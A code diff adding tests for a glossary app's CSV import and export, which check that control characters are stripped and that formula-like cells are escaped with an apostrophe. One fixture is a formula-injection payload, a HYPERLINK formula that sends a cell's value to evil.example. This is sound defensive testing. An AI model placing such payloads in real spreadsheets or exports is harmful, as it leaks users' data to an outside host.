@@ -157,6 +157,31 @@ describe('glossary import and export', () => {
   });
 });
 
+describe('glossary CSV export and formula injection', () => {
+  it('an imported CSV never stores control characters in terms or notes', async () => {
+    const { api } = start();
+    const csv = 'source,target,note\r\nBud\u001bget,Presu\u0000puesto,"see\u001b[2J\nthis"\r\n';
+    await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(csv), mode: 'merge' });
+    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note])).toEqual([['Budget', 'Presupuesto', 'see[2J\nthis']]);
+  });
+
+  it('a note starting with a tab is stored trimmed and exported with the apostrophe, never as a formula', async () => {
+    const { api } = start();
+    await api.addGlossaryTerm({ ...EN_ES, term: { source: '=HYPERLINK("http://evil.example/?x="&A1,"click")', target: 'x', note: '\t=1+1' } });
+    await api.addGlossaryTerm({ ...EN_ES, term: { source: '@cmd', target: '-x', note: '+note' } });
+    const file = await api.exportGlossary({ ...EN_ES, format: 'csv' });
+    const lines = file.content.split('\r\n');
+    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",x,'=1+1,,no`);
+    expect(lines).toContain(`'@cmd,'-x,'+note,,no`);
+    const other = start();
+    await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' });
+    expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note]).sort()).toEqual([
+      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 'x', '=1+1'],
+      ['@cmd', '-x', '+note'],
+    ]);
+  });
+});
+
 describe('the glossary in the sign-off gate', () => {
   it('blocks sign-off of a paragraph that misses a term or uses a forbidden variant, until fixed or overridden', async () => {
     const backend = start();
